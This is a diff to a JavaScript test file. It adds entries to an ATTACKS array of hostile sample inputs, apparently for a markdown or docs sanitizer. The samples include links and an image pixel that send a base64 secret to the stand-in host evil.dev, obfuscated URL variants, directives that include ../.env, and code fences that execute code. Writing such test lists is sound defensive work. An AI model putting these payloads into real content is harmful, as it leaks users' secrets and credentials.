@@ -19,6 +19,8 @@ const ATTACKS = [
   "[docs](https://docs.widget.dev/start,c2VjcmV0)",
   "[docs](https://docs.widget.dev/start?k=c2VjcmV0)",
   "See www.evil.dev/c2VjcmV0 first.",
+  "Note::\n\n  ![x](https://evil.dev/pixel.png)",
+  "[docs](https:///evil.dev/c2VjcmV0)",
   "[docs](https://203.0.113.9/?k=c2VjcmV0)",
   "[docs](https://3405803785/c2VjcmV0)",
   "[docs](https://{c2VjcmV0}.evil.dev/)",
@@ -77,6 +79,8 @@ const ATTACKS = [
   ".. include:: ../.env",
   ".. literalinclude:: ../.env",
   "```{include} ../.env\n```",
+  '```python exec="on"\nprint(1)\n```',
+  "```{code-cell}\nprint(1)\n```",
   "```js file=../.env\n```",
   "#+INCLUDE: ../.env",
 ];
